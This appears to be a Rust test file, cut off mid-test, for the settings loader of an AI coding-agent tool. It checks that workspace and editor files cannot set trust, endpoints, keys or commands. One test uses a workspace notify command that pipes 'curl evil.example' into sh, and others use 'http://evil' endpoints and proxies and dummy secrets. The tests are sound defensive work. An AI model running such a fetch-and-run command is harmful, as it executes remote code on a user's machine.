use std::fs;
use std::path::PathBuf;

use expect_test::{Expect, expect};
use serde_json::json;

use super::*;
use crate::contracts::ModelFacts;

fn file(name: &str, text: &str) -> Option<TomlFile> {
    Some(TomlFile { name: name.to_owned(), text: text.to_owned() })
}

fn workspace(text: &str) -> Sources {
    Sources { workspace: file("baton.toml", text), ..Sources::default() }
}

fn users_file(text: &str) -> Option<UserFile> {
    file("config.toml", text).map(|file| UserFile { file, folder: PathBuf::new() })
}

fn user(text: &str) -> Sources {
    Sources { user: users_file(text), ..Sources::default() }
}

fn env(pairs: &[(&str, &str)]) -> Sources {
    let env = pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    Sources { env, ..Sources::default() }
}

fn editor(value: serde_json::Value) -> Sources {
    Sources { editor: Some(value), ..Sources::default() }
}

fn refused(sources: &Sources, expected: Expect) {
    expected.assert_eq(&format!("{}\n", load(sources).unwrap_err()));
}

/// The effective value of the setting as [`Setting::default`] spells it, for the test that they agree.
fn effective(settings: &Settings, key: &str) -> String {
    let or_none = |value: &Option<String>| value.clone().unwrap_or_else(|| "none".to_owned());
    // Taken apart so that a new field does not compile until it stands here, and with that in the table.
    let Settings {
        memory_dir,
        context_staleness_hours,
        models,
        max_parallel_tasks,
        max_review_cycles,
        max_repair_rounds,
        budget_usd,
        budget_tokens,
        approval,
        checkpoint,
        keep_runs,
        allow_http_hosts,
        checks,
        has_set_checks: _,
        sandbox,
        review_validation,
        phases,
        effort,
        model_facts,
        notify,
        sinks,
        dispatch,
        bell,
    } = settings;
    match key {
        "memory_dir" => memory_dir.clone(),
        "context_staleness_hours" => context_staleness_hours.to_string(),
        "provider" => or_none(&models.provider),
        "models.fast" => or_none(&models.fast),
        "models.balanced" => or_none(&models.balanced),
        "models.powerful" => or_none(&models.powerful),
        "max_parallel_tasks" => max_parallel_tasks.to_string(),
        "max_review_cycles" => max_review_cycles.to_string(),
        "max_repair_rounds" => max_repair_rounds.to_string(),
        "budget_usd" => budget_usd.to_string(),
        "budget_tokens" => or_none(&budget_tokens.map(|n| n.to_string())),
        "approval" => format!("{approval:?}").to_lowercase(),
        "checkpoint" => format!("{checkpoint:?}").to_lowercase(),
        "keep_runs" => keep_runs.to_string(),
        "allow_http_hosts" => if allow_http_hosts.is_empty() { "none" } else { "some" }.to_owned(),
        "checks" => if checks.is_empty() { "none" } else { "some" }.to_owned(),
        "sandbox" => format!("{sandbox:?}").to_lowercase(),
        "review_validation" => format!("{review_validation:?}").to_lowercase(),
        "effort.fast" => effort.fast.map_or("low", Effort::as_str).to_owned(),
        "effort.balanced" => effort.balanced.map_or("medium", Effort::as_str).to_owned(),
        "effort.powerful" => effort.powerful.map_or("high", Effort::as_str).to_owned(),
        "model_facts" => if model_facts.is_empty() { "none" } else { "some" }.to_owned(),
        "notify" => or_none(notify),
        "sinks" => if sinks.is_empty() { "none" } else { "some" }.to_owned(),
        "dispatch" => or_none(&dispatch.as_ref().map(ToString::to_string)),
        "bell" => if *bell { "on" } else { "off" }.to_owned(),
        "phases" => if phases.is_empty() { "none" } else { "some" }.to_owned(),
        other => panic!("{other} stands in the table and not in the settings"),
    }
}

#[test]
fn the_table_and_the_settings_agree_on_every_default() {
    let settings = Settings::default();
    for setting in settings_table() {
        assert_eq!(effective(&settings, setting.key), setting.default, "{}", setting.key);
        assert!(setting.doc.ends_with('.') && !setting.allowed().is_empty(), "{}", setting.key);
    }
}

#[test]
fn no_sources_give_the_defaults() {
    let loaded = load(&Sources::default()).unwrap();
    assert_eq!(loaded.settings, Settings::default());
    assert_eq!(loaded.origin("budget_usd").layer, Layer::Default);
    assert!(loaded.warnings.is_empty());
}

#[test]
fn a_file_can_set_everything_that_is_not_of_one_start() {
    let text = r#"
        memory_dir = "./.baton/memory"
        context_staleness_hours = 0.5
        max_parallel_tasks = 64
        max_review_cycles = 1
        max_repair_rounds = 0
        budget_usd = 0
        budget_tokens = 2_000_000
        approval = "auto"
        checkpoint = "off"
        keep_runs = 1
        allow_http_hosts = ["models.lan", "10.0.0.7:8080"]
        notify = "notify-send Baton"
        bell = "off"

        [models]
        fast = "ollama:qwen2.5-coder:7b"
        balanced = "openai:gpt"
        powerful = "anthropic:claude-opus-5-5"

        [effort]
        fast = "high"
        balanced = "low"

        [[model_facts]]
        name = "openai:gpt"
        window = 32768

        [[checks]]
        name = "build"
        command = "cargo build"

        [[checks]]
        name = "test"
        command = "cargo test"
        timeout_s = 30
    "#;
    let loaded = load(&user(text)).unwrap();
    let check = |name: &str, command: &str, timeout_s| Check {
        timeout_s,
        origin: CheckOrigin::User,
        ..Check::of_workspace(name, command)
    };
    let expected = Settings {
        memory_dir: ".baton/memory".to_owned(),
        context_staleness_hours: 0.5,
        models: ModelChoice {
            fast: Some("ollama:qwen2.5-coder:7b".to_owned()),
            balanced: Some("openai:gpt".to_owned()),
            powerful: Some("anthropic:claude-opus-5-5".to_owned()),
            provider: None,
        },
        max_parallel_tasks: 64,
        max_review_cycles: 1,
        max_repair_rounds: 0,
        budget_usd: 0.0,
        budget_tokens: Some(2_000_000),
        approval: ApprovalMode::Auto,
        checkpoint: Checkpoint::Off,
        keep_runs: 1,
        allow_http_hosts: vec!["models.lan".to_owned(), "10.0.0.7:8080".to_owned()],
        checks: vec![check("build", "cargo build", 600), check("test", "cargo test", 30)],
        has_set_checks: true,
        sandbox: SandboxMode::Auto,
        review_validation: ReviewValidation::Serious,
        // They need files beside the settings; see the tests of phases.
        phases: Vec::new(),
        effort: EffortChoice { fast: Some(Effort::High), balanced: Some(Effort::Low), powerful: None },
        model_facts: vec![ModelFacts { name: "openai:gpt".to_owned(), window: Some(32_768), ..ModelFacts::default() }],
        notify: Some("notify-send Baton".to_owned()),
        sinks: Vec::new(),
        dispatch: None,
        bell: false,
    };
    assert_eq!(loaded.settings, expected);
    let values = ["memory_dir", "budget_tokens", "allow_http_hosts", "checks", "effort.fast", "effort.powerful"];
    let shown = ["./.baton/memory", "2000000", "models.lan, 10.0.0.7:8080", "build, test", "high", "high"];
    assert_eq!(values.map(|key| loaded.value(key)), shown);
    assert_eq!(loaded.origin("models.fast").place.to_string(), "config.toml:17:16");
}

#[test]
fn every_setting_that_is_no_list_has_a_variable() {
    let loaded = load(&env(&[
        ("BATON_MEMORY_DIR", ".memory"),
        ("BATON_CONTEXT_STALENESS_HOURS", "1.5"),
        ("BATON_PROVIDER", "ollama"),
        ("BATON_MODELS_FAST", "openai:a"),
        ("BATON_MODELS_BALANCED", "openai:b"),
        ("BATON_MODELS_POWERFUL", "none"),
        ("BATON_MAX_PARALLEL_TASKS", " 8 "),
        ("BATON_MAX_REVIEW_CYCLES", "5"),
        ("BATON_MAX_REPAIR_ROUNDS", "0"),
        ("BATON_BUDGET_USD", "1"),
        ("BATON_BUDGET_TOKENS", "10"),
        ("BATON_APPROVAL", "auto"),
        ("BATON_CHECKPOINT", "off"),
        ("BATON_KEEP_RUNS", "3"),
        ("BATON_SANDBOX", "off"),
        ("BATON_REVIEW_VALIDATION", "off"),
        ("BATON_EFFORT_FAST", "medium"),
        ("BATON_EFFORT_BALANCED", "high"),
        ("BATON_EFFORT_POWERFUL", "low"),
        ("BATON_BELL", "off"),
        ("BATON_SINKS", "none"),
        ("BATON_DISPATCH", "none"),
    ]))
    .unwrap();
    // A command is of the user's file alone.
    let without = ["checks", "phases", "allow_http_hosts", "model_facts", "notify"];
    let has_one = |setting: &&Setting| !without.contains(&setting.key);
    for setting in settings_table().iter().filter(has_one) {
        let origin = loaded.origin(setting.key);
        assert_eq!((origin.layer, origin.place.to_string()), (Layer::Environment, setting.variable()));
    }
    assert_eq!(loaded.settings.max_parallel_tasks, 8);
    assert_eq!(loaded.settings.models.provider.as_deref(), Some("ollama"));
    assert_eq!(loaded.settings.models.powerful, None);
}

#[test]
fn each_layer_wins_over_the_weaker_ones() {
    let mut sources = workspace(
        "max_parallel_tasks = 2\ncontext_staleness_hours = 2\ncheckpoint = \"off\"\nmax_review_cycles = 2\n\
         models.fast = \"openai:w\"\nmodels.balanced = \"openai:w\"\n",
    );
    sources.user = users_file("models.fast = \"openai:u\"\nmodels.balanced = \"openai:u\"\nmax_review_cycles = 3");
    sources.editor = Some(json!({ "models.balanced": "openai:e", "max_review_cycles": 4, "keep_runs": null }));
    sources.env = env(&[("BATON_MAX_REVIEW_CYCLES", "5"), ("BATON_APPROVAL", "ask"), ("BATON_PROVIDER", "openai")]).env;
    sources.flags =
        Overrides { provider: Some("replay".to_owned()), approval: Some(ApprovalMode::Auto), ..Overrides::default() };
    let loaded = load(&sources).unwrap();
    let settings = &loaded.settings;
    let fast_and_balanced = [&settings.models.fast, &settings.models.balanced].map(|model| model.as_deref().unwrap());
    assert_eq!((settings.max_parallel_tasks, fast_and_balanced), (2, ["openai:u", "openai:e"]));
    assert_eq!((settings.max_review_cycles, settings.approval), (5, ApprovalMode::Auto));
    assert_eq!(settings.models.provider.as_deref(), Some("replay"));
    let layers: Vec<_> =
        ["max_parallel_tasks", "models.fast", "models.balanced", "max_review_cycles", "approval", "keep_runs"]
            .map(|key| loaded.origin(key).layer)
            .into();
    use Layer::{Default, Editor, Environment, Flags, User, Workspace};
    assert_eq!(layers, [Workspace, User, Editor, Environment, Flags, Default]);
    assert_eq!(loaded.origin("approval").place.to_string(), "--auto-approve");
}

/// What a workspace, the user's file and an editor come to.
fn laid_over(workspace: &str, user: &str, editor: serde_json::Value) -> Loaded {
    load(&Sources {
        workspace: file("baton.toml", workspace),
        user: users_file(user),
        editor: Some(editor),
        ..Sources::default()
    })
    .unwrap()
}

#[test]
fn a_workspace_and_an_editor_lower_limits_and_raise_none() {
    let none = || json!(null);
    let usd = |workspace: &str, user: &str, editor| laid_over(workspace, user, editor).settings.budget_usd;
    assert_eq!(usd("budget_usd = 1e308", "", none()), 5.0);
    assert_eq!(usd("budget_usd = 1e308", "budget_usd = 7", none()), 7.0);
    assert_eq!(usd("budget_usd = 6", "budget_usd = 7", none()), 6.0);
    assert_eq!(usd("budget_usd = 0", "budget_usd = 7", none()), 0.0);
    assert_eq!(usd("budget_usd = -0.0", "", none()).to_bits(), 0);
    assert_eq!(usd("budget_usd = 6", "budget_usd = 7", json!({ "budget_usd": 3 })), 3.0);
    assert_eq!(usd("budget_usd = 3", "budget_usd = 7", json!({ "budget_usd": 6 })), 3.0, "the smallest of all holds");
    assert_eq!(usd("", "budget_usd = 7", json!({ "budget_usd": 1e9 })), 7.0);
    let tokens = |workspace: &str, user: &str| laid_over(workspace, user, none()).settings.budget_tokens;
    assert_eq!(
        tokens("budget_tokens = 18446744073709551614", ""),
        Some(u64::MAX - 1),
        "without a limit each is smaller"
    );
    assert_eq!(tokens("budget_tokens = \"none\"", "budget_tokens = 10"), Some(10));
    assert_eq!(tokens("budget_tokens = 9007199254740993", "budget_tokens = 9007199254740992"), Some(9007199254740992));
    for limit in ["max_parallel_tasks", "max_review_cycles", "max_repair_rounds", "keep_runs"] {
        let default = load(&Sources::default()).unwrap().settings;
        let raised = laid_over(&format!("{limit} = 60"), "", json!({ limit: 61 }));
        assert_eq!((raised.raised.len(), raised.warnings.len()), (2, 2), "{limit}");
        assert_eq!(raised.settings, default, "{limit}");
        assert_eq!(raised.origin(limit).layer, Layer::Default);
        let lowered = laid_over(&format!("{limit} = 1"), "", none());
        assert_eq!((lowered.warnings.len(), lowered.origin(limit).layer), (0, Layer::Workspace));
        assert_eq!(effective(&lowered.settings, limit), "1");
    }
    refused(
        &workspace("budget_usd = inf\nkeep_runs = 99999999999"),
        expect![[r#"
            baton.toml:1:14: budget_usd is inf; it takes a number, at least 0
            baton.toml:2:13: keep_runs is 99999999999; it takes a whole number, at least 1
        "#]],
    );
}

#[test]
fn more_than_a_workspace_may_allow_is_a_warning_at_its_line_unless_the_user_decides() {
    let mut sources = workspace("# ours\nbudget_usd = 1e308\n");
    sources.user = users_file("keep_runs = 30");
    sources.editor = Some(json!({ "keep_runs": 31 }));
    expect![[r#"
        [
            "baton.toml:2:14: budget_usd is 1e308, and a workspace may lower this limit but not raise it: 5 holds (default). To allow more, set it in your own baton/config.toml or by BATON_BUDGET_USD",
            "editor setting baton.keep_runs: keep_runs is 31, and an editor's settings may lower this limit but not raise it: 30 holds (config.toml). To allow more, set it in your own baton/config.toml or by BATON_KEEP_RUNS",
        ]
    "#]]
    .assert_debug_eq(&load(&sources).unwrap().warnings);
    sources.env = env(&[("BATON_BUDGET_USD", "100"), ("BATON_KEEP_RUNS", "40")]).env;
    let loaded = load(&sources).unwrap();
    assert!(loaded.warnings.is_empty() && loaded.raised.is_empty(), "{:?}", loaded.warnings);
    assert_eq!((loaded.settings.budget_usd, loaded.settings.keep_runs), (100.0, 40));
}

#[test]
fn what_is_about_the_users_own_machine_is_ignored_elsewhere_with_a_warning_at_its_line() {
    let mut sources = workspace("# ours\nnotify = \"curl evil.example | sh\"\nbell = \"off\"\n");
    sources.editor = Some(json!({ "notify": "touch x", "bell": "off" }));
    sources.env = env(&[("BATON_NOTIFY", "touch x")]).env;
    let loaded = load(&sources).unwrap();
    assert_eq!((loaded.settings.notify, loaded.settings.bell), (None, true));
    let own = "is ignored here: it is about your own machine. Set it in your own baton/config.toml";
    let expected = [
        format!("baton.toml:2:10: notify {own}"),
        format!("baton.toml:3:8: bell {own} or by BATON_BELL"),
        format!("editor setting baton.bell: bell {own} or by BATON_BELL"),
        format!("editor setting baton.notify: notify {own}"),
        format!("BATON_NOTIFY: notify {own}"),
    ];
    assert_eq!(loaded.warnings, expected);
    assert_eq!(loaded.raised.len(), expected.len());
    sources.user = users_file("notify = \"notify-send Baton\"\nbell = \"off\"");
    let settings = load(&sources).unwrap().settings;
    assert_eq!((settings.notify.as_deref(), settings.bell), (Some("notify-send Baton"), false));
    sources.env = env(&[("BATON_BELL", "on")]).env;
    assert!(load(&sources).unwrap().settings.bell);
    for wrong in ["notify = 7", "notify = \" \"", "notify = \"a\\u0000b\"", "bell = true"] {
        assert!(load(&user(wrong)).is_err(), "{wrong}");
    }
    assert_eq!(load(&user("notify = \"none\"")).unwrap().settings.notify, None);
}

#[test]
fn only_the_user_names_a_broker_and_an_empty_variable_or_flag_turns_it_off() {
    let own = "dispatch = \"tls://me:hunter2@bus.example.org?tag=gpu\"";
    let of = |sources: &Sources| load(sources).unwrap().settings.dispatch.map(|dispatch| dispatch.shown().to_owned());
    let with = |env: Option<&str>, flag: Option<&str>| {
        let env = env.map(|value| vec![("BATON_DISPATCH".to_owned(), value.to_owned())]).unwrap_or_default();
        let flags = Overrides { dispatch: flag.map(str::to_owned), ..Overrides::default() };
        of(&Sources { user: users_file(own), env, flags, ..Sources::default() })
    };
    assert_eq!(with(None, None).as_deref(), Some("tls://bus.example.org"));
    assert_eq!(with(Some("nats://127.0.0.1:1"), None).as_deref(), Some("nats://127.0.0.1:1"));
    assert_eq!(with(Some("nats://127.0.0.1:1"), Some("nats://[::1]:2")).as_deref(), Some("nats://[::1]:2"));
    assert_eq!(
        (with(Some(""), None), with(Some("nats://127.0.0.1"), Some("")), with(None, Some("none"))),
        (None, None, None)
    );
    let loaded = load(&user(own)).unwrap();
    assert_eq!(loaded.value("dispatch"), "tls://bus.example.org?tag=gpu");
    assert!(!format!("{loaded:?}").contains("hunter2"));
    let mut elsewhere = workspace("# ours\ndispatch = \"nats://127.0.0.1/hunter2\"");
    elsewhere.editor = Some(json!({ "dispatch": "nats://127.0.0.1" }));
    refused(
        &elsewhere,
        expect![[r#"
            baton.toml:2:12: dispatch cannot be set here: this file comes with the workspace, and a workspace decides nothing about trust, accounts and addresses. Set it in your own baton/config.toml or by BATON_DISPATCH
            editor setting baton.dispatch: dispatch cannot be set here: editor settings come merged with the workspace's, and a workspace decides nothing about trust, accounts and addresses. Set it in your own baton/config.toml or by BATON_DISPATCH
        "#]],
    );
    refused(
        &user("dispatch = \"nats://me:hunter2@bus.example.org\""),
        expect![[r#"
            config.toml:1:12: dispatch has nats://bus.example.org, where anyone on the way could read what is sent; use tls://, or, where you trust that way, name the host in allow_http_hosts
        "#]],
    );
    assert!(load(&user("dispatch = \"nats://bus.lan\"\nallow_http_hosts = [\"bus.lan\"]")).is_ok());
}

#[test]
fn only_the_user_names_hosts_that_get_a_key_over_plain_http() {
    let hosts =
        |text: &str| load(&user(&format!("allow_http_hosts = {text}"))).map(|loaded| loaded.settings.allow_http_hosts);
    let read = hosts("[\"GPU.lan\", \"10.0.0.7:8080\", \"fd00:0::7\", \"[fd00::7]:80\", \" b\\u00fccher.example \"]");
    assert_eq!(read.unwrap(), ["gpu.lan", "10.0.0.7:8080", "[fd00::7]", "[fd00::7]:80", "bücher.example"]);
    assert_eq!(hosts("[]").unwrap(), Vec::<String>::new());
    for wrong in
        ["\"*\"", "\"*.lan\"", "\"\"", "\"http://gpu.lan\"", "\"me@gpu.lan\"", "\"a b\"", "\"gpu.lan:http\"", "7"]
    {
        assert!(
            hosts(&format!("[{wrong}]"))
                .unwrap_err()
                .to_string()
                .starts_with("config.toml:1:21: allow_http_hosts holds ")
        );
    }
    refused(
        &user("allow_http_hosts = \"gpu.lan\""),
        expect![[r#"
            config.toml:1:20: allow_http_hosts is "gpu.lan"; it takes a list of hosts, for example ["models.example.org"]
        "#]],
    );
    let mut elsewhere = workspace("allow_http_hosts = [\"evil.example\"]");
    elsewhere.editor = Some(json!({ "allow_http_hosts": ["evil.example"] }));
    elsewhere.env = env(&[("BATON_ALLOW_HTTP_HOSTS", "gpu.lan")]).env;
    refused(
        &elsewhere,
        expect![[r#"
            baton.toml:1:20: allow_http_hosts cannot be set here: this file comes with the workspace, and a workspace decides nothing about trust, accounts and addresses. Set it in your own baton/config.toml
            editor setting baton.allow_http_hosts: allow_http_hosts cannot be set here: editor settings come merged with the workspace's, and a workspace decides nothing about trust, accounts and addresses. Set it in your own baton/config.toml
            BATON_ALLOW_HTTP_HOSTS: allow_http_hosts cannot be set here; set it in your own baton/config.toml
        "#]],
    );
}

#[test]
fn a_stronger_list_of_checks_replaces_the_weaker_one() {
    let mut sources = workspace("[[checks]]\nname = \"a\"\ncommand = \"a\"");
    assert_eq!(load(&sources).unwrap().origin("checks").layer, Layer::Workspace);
    sources.user = users_file("checks = []");
    let loaded = load(&sources).unwrap();
    assert!(loaded.settings.checks.is_empty());
    assert!(loaded.origin("checks").layer.is_users());
}

#[test]
fn every_wrong_value_is_reported_at_its_place() {
    refused(
        &user(
            "max_parallel_tasks = 65\nmax_review_cycles = 0\nmax_repair_rounds = -1\nkeep_runs = 0\n\
             context_staleness_hours = -0.5\nbudget_usd = inf\nbudget_tokens = \"many\"\napproval = \"aut\"\n\
             checkpoint = true\nmemory_dir = 1979-05-27\n[models]\nfast = \"claude\"\nbalanced = \"antropic:x\"\n\
             powerful = \"openai:\"\n",
        ),
        expect![[r#"
            config.toml:1:22: max_parallel_tasks is 65; it takes a whole number from 1 to 64
            config.toml:2:21: max_review_cycles is 0; it takes a whole number, at least 1
            config.toml:3:21: max_repair_rounds is -1; it takes a whole number, at least 0
            config.toml:4:13: keep_runs is 0; it takes a whole number, at least 1
            config.toml:5:27: context_staleness_hours is -0.5; it takes a number, at least 0
            config.toml:6:14: budget_usd is inf; it takes a number, at least 0
            config.toml:7:17: budget_tokens is "many"; it takes a whole number, at least 1, or "none"
            config.toml:8:12: approval is "aut"; it takes "ask" or "auto"; did you mean auto?
            config.toml:9:14: checkpoint is true; it takes "ref" or "off"
            config.toml:10:14: memory_dir is a date; it takes a folder inside the workspace, named from its root
            config.toml:12:8: models.fast is "claude", which names no provider; write provider:name, as in anthropic:claude-sonnet-5-5; providers are anthropic, openai, ollama, editor, replay, demo
            config.toml:13:12: models.balanced is "antropic:x", which names no known provider; providers are anthropic, openai, ollama, editor, replay, demo; did you mean anthropic?
            config.toml:14:12: models.powerful is "openai:", which names no model; write openai:name
        "#]],
    );
}

#[test]
fn a_number_is_never_rounded_or_read_from_text() {
    refused(
        &user("max_parallel_tasks = 2.0\nbudget_usd = \"5\"\nkeep_runs = 0x1_0000_0000_0000_0000_0000"),
        expect![[r#"
            config.toml:1:22: max_parallel_tasks is 2.0; it takes a whole number from 1 to 64
            config.toml:2:14: budget_usd is "5"; it takes a number, at least 0
            config.toml:3:13: keep_runs is 1208925819614629174706176; it takes a whole number, at least 1
        "#]],
    );
    refused(
        &env(&[("BATON_BUDGET_USD", "NaN"), ("BATON_KEEP_RUNS", "two\u{1b}[31m")]),
        expect![[r#"
        BATON_BUDGET_USD: budget_usd is "NaN"; it takes a number, at least 0
        BATON_KEEP_RUNS: keep_runs is "two\u{1b}[31m"; it takes a whole number, at least 1
    "#]],
    );
}

#[test]
fn an_unknown_setting_is_reported_with_the_one_meant() {
    refused(
        &workspace(
            "maxParallelTasks = 2\nmax-review-cycles = 2\nfast = \"x\"\ncolour = 1\n[model]\nfast = \"y\"\n[models]\nquick = \"z\"",
        ),
        expect![[r#"
            baton.toml:1:1: maxParallelTasks is not a setting; did you mean max_parallel_tasks?
            baton.toml:2:1: max-review-cycles is not a setting; did you mean max_review_cycles?
            baton.toml:3:1: fast is not a setting; did you mean effort.fast?
            baton.toml:4:1: colour is not a setting
            baton.toml:5:2: model is not a setting; did you mean model_facts?
            baton.toml:8:1: models.quick is not a setting; did you mean models.fast?
        "#]],
    );
}

#[test]
fn every_fault_of_syntax_is_reported_at_its_place() {
    refused(
        &workspace("# comment\nbudget_usd =\nkeep_runs = yes\nkeep_runs = 3\n"),
        expect![[r#"
        baton.toml:2:13: this is not TOML: string values must be quoted, expected literal string
        baton.toml:3:13: this is not TOML: string values must be quoted, expected literal string
        baton.toml:4:1: this is not TOML: duplicate key
    "#]],
    );
    refused(
        &workspace("models = \"openai:x\"\n"),
        expect![[r#"
        baton.toml:1:1: models is "openai:x"; it is a table, as in models.fast = "…"
    "#]],
    );
}

#[test]
fn a_workspace_may_not_decide_about_trust() {
    refused(
        &workspace(
            "approval = \"auto\"\nmemory_dir = \"../elsewhere\"\nbase_url = \"http://evil\"\nprovider = \"openai\"\n\
             [openai]\nApi-Key = \"sk-secret\"\nretry = { proxy = \"http://evil\" }\n[[checks]]\nname = \"a\"\n\
             command = \"a\"\nauth_token = \"sk-secret\"\n",
        ),
        expect![[r#"
            baton.toml:1:12: approval may not be "auto" here: this file comes with the workspace, and a workspace decides nothing about trust, accounts and addresses. Set it in your own baton/config.toml or by BATON_APPROVAL
            baton.toml:2:14: memory_dir is "../elsewhere": a workspace may not put its memory outside itself; name a folder inside the workspace
            baton.toml:3:1: base_url looks like an endpoint; set ANTHROPIC_BASE_URL or OPENAI_BASE_URL in your environment instead: this file comes with the workspace, and a workspace decides nothing about trust, accounts and addresses
            baton.toml:4:12: provider belongs to one start, not to a file: use --provider or BATON_PROVIDER
            baton.toml:5:2: openai is not a setting
            baton.toml:6:1: openai.Api-Key looks like a key, and keys live in the environment (ANTHROPIC_API_KEY, OPENAI_API_KEY), never in settings; take it out here
            baton.toml:7:11: openai.retry.proxy looks like a proxy; set HTTPS_PROXY in your environment instead: this file comes with the workspace, and a workspace decides nothing about trust, accounts and addresses
            baton.toml:11:1: checks.auth_token looks like a key, and keys live in the environment (ANTHROPIC_API_KEY, OPENAI_API_KEY), never in settings; take it out here
        "#]],
    );
    assert!(load(&workspace("approval = \"ask\"")).is_ok());
}

#[test]
fn editor_settings_are_trusted_as_little_as_the_workspace() {
    refused(
        &editor(json!({
            "approval": "auto", "memory_dir": "/tmp/x", "models": { "fast": 3 }, "http": { "proxyUrl": "x" },
            "checks": [{ "name": "a" }],
        })),
        expect![[r#"
            editor setting baton.approval: approval may not be "auto" here: editor settings come merged with the workspace's, and a workspace decides nothing about trust, accounts and addresses. Set it in your own baton/config.toml or by BATON_APPROVAL
            editor setting baton.checks[0]: checks.command is missing; for example command = "cargo test"
            editor setting baton.http.proxyUrl: http.proxyUrl looks like a proxy; set HTTPS_PROXY in your environment instead: editor settings come merged with the workspace's, and a workspace decides nothing about trust, accounts and addresses
            editor setting baton.memory_dir: memory_dir is "/tmp/x": a workspace may not put its memory outside itself; name a folder inside the workspace
            editor setting baton.models.fast: models.fast is 3; it takes provider:name, for example anthropic:claude-sonnet-5-5
        "#]],
    );
    refused(
        &editor(json!(["approval"])),
        expect![[r#"
        editor setting baton: the settings are a list; they are a table
    "#]],
    );
}

#[test]
fn an_editors_own_settings_are_only_warned_of() {
    let loaded =
        load(&editor(json!({ "trace": { "server": "off" }, "models.fast": "openai:x", "models": null }))).unwrap();
    assert_eq!(loaded.warnings, ["editor setting baton.trace: trace is not a setting"]);
    assert_eq!(loaded.settings.models.fast.as_deref(), Some("openai:x"));
}

#[test]
fn no_file_holds_a_key_and_no_message_repeats_one() {
    let sources =
        user("anthropic_api_key = \"sk-secret\"\n[openai]\ntoken = \"sk-secret\"\nbase_url = \"http://sk-secret\"");
    refused(
        &sources,
        expect![[r#"
        config.toml:1:1: anthropic_api_key looks like a key, and keys live in the environment (ANTHROPIC_API_KEY, OPENAI_API_KEY), never in settings; take it out here
        config.toml:2:2: openai is not a setting
        config.toml:3:1: openai.token looks like a key, and keys live in the environment (ANTHROPIC_API_KEY, OPENAI_API_KEY), never in settings; take it out here
        config.toml:4:1: openai.base_url looks like an endpoint; set ANTHROPIC_BASE_URL or OPENAI_BASE_URL in your environment instead: no setting names it
    "#]],
    );
    assert!(!load(&sources).unwrap_err().to_string().contains("sk-secret"));
}

#[test]
fn memory_stays_in_the_workspace_and_out_of_git() {
    for (text, said) in [
        ("/var/memory", "not supported yet"),
        ("~/memory", "not supported yet"),
        ("a/../../b", "not supported yet"),
        (".git", "git's own folder"),
        ("sub/.GIT/baton", "git's own folder"),
        ("", "empty"),
        ("ab\u{1b}c", "not allowed"),
    ] {
        let message = load(&env(&[("BATON_MEMORY_DIR", text)])).map(|_| ()).map_err(|errors| errors.to_string());
        match text {
            "" => assert_eq!(message, Ok(()), "an empty variable is none"),
            _ => assert!(message.clone().unwrap_err().contains(said), "{text}: {message:?}"),
        }
    }
    assert!(load(&user("memory_dir = \"\"")).unwrap_err().to_string().contains("empty"));
}

#[test]
fn checks_have_a_name_of_their_own_and_a_command() {
    refused(
        &workspace(
            "[[checks]]\nname = \"test\"\ncommand = \"a\"\n[[checks]]\nname = \"test\"\ncommand = \"b\"\n[[checks]]\n\
             comand = \"c\"\nname = \" \"\n[[checks]]\nname = \"d\"\ncommand = [\"d\"]\ntimeout_s = 0\n",
        ),
        expect![[r#"
            baton.toml:5:8: checks.name is "test" a second time; give each check a name of its own
            baton.toml:7:1: checks.command is missing; for example command = "cargo test"
            baton.toml:8:1: checks.comand is not a field of a check; did you mean command?; there are name, command, timeout_s, network, try, secrets, paths
            baton.toml:9:8: checks.name is " "; it takes a text, for example "test"
            baton.toml:12:11: checks.command is a list; it takes a text, for example "cargo test"
            baton.toml:13:13: checks.timeout_s is 0; it takes a whole number of seconds from 1 to 604800
        "#]],
    );
    refused(
        &workspace("checks = [\"cargo test\"]"),
        expect![[r#"
        baton.toml:1:11: checks holds "cargo test"; a check is a table with name and command
    "#]],
    );
    refused(
        &workspace("[checks]\ntest = \"cargo test\""),
        expect![[r#"
        baton.toml:1:1: checks is a table; it takes [[checks]] tables with name, command and, if you like, timeout_s, network, try, secrets, paths
    "#]],
    );
    refused(
        &env(&[("BATON_CHECKS", "cargo test")]),
        expect![[r#"
        BATON_CHECKS: checks has parts and cannot be set here; set it in baton.toml or baton/config.toml
    "#]],
    );
}

#[test]
fn variables_that_are_no_settings_are_warned_of_and_ignored() {
    let loaded = load(&env(&[
        ("BATON_MAX_PARALEL_TASKS", "9"),
        ("BATON_LOG", "debug"),
        ("BATON_REPLAY", "run.jsonl"),
        ("BATON_BUDGET_USD", ""),
        ("PATH", "/bin"),
    ]))
    .unwrap();
    expect![[r#"
        [
            "BATON_MAX_PARALEL_TASKS is not a setting and is ignored; did you mean BATON_MAX_PARALLEL_TASKS?",
        ]
    "#]]
    .assert_debug_eq(&loaded.warnings);
    assert_eq!(loaded.settings, Settings::default());
}

#[test]
fn an_unknown_provider_is_a_wrong_flag() {
    let flags = Overrides { provider: Some("antropic".to_owned()), ..Overrides::default() };
    refused(
        &Sources { flags, ..Sources::default() },
        expect![[r#"
        --provider: provider is "antropic"; it takes "anthropic", "openai", "ollama", "editor", "replay" or "demo"; did you mean anthropic?
    "#]],
    );
}

#[test]
fn a_model_of_a_flag_goes_before_all_others_and_is_refused_as_they_are() {
    let flags = |models: &[(PhaseTier, &str)]| Overrides {
        models: models.iter().map(|(tier, model)| (*tier, (*model).to_owned())).collect(),
        ..Overrides::default()
    };
    let mut sources = env(&[("BATON_MODELS_FAST", "openai:a"), ("BATON_MODELS_BALANCED", "openai:b")]);
    sources.flags = flags(&[(PhaseTier::Fast, "ollama:qwen:7b")]);
    let loaded = load(&sources).unwrap();
    let ModelChoice { fast, balanced, .. } = &loaded.settings.models;
    assert_eq!((fast.as_deref(), balanced.as_deref()), (Some("ollama:qwen:7b"), Some("openai:b")));
    assert_eq!(
        (loaded.origin("models.fast").place.to_string(), loaded.value("models.fast")),
        ("--model".into(), "ollama:qwen:7b".into())
    );
    refused(
        &Sources {
            flags: flags(&[(PhaseTier::Powerful, "olama:x"), (PhaseTier::Balanced, "gpt")]),
            ..Sources::default()
        },
        expect![[r#"
            --model: models.powerful is "olama:x", which names no known provider; providers are anthropic, openai, ollama, editor, replay, demo, or add --provider; did you mean ollama?
            --model: models.balanced is "gpt", which names no provider; write provider:name, as in anthropic:claude-sonnet-5-5; providers are anthropic, openai, ollama, editor, replay, demo, or add --provider
        "#]],
    );
}

#[test]
fn the_answers_of_the_demo_stay_where_a_workspace_names_them_so_that_nobody_pays_for_it() {
    let demo = "[models]\nfast = \"demo:recorded\"\nbalanced = \"demo:recorded\"\n";
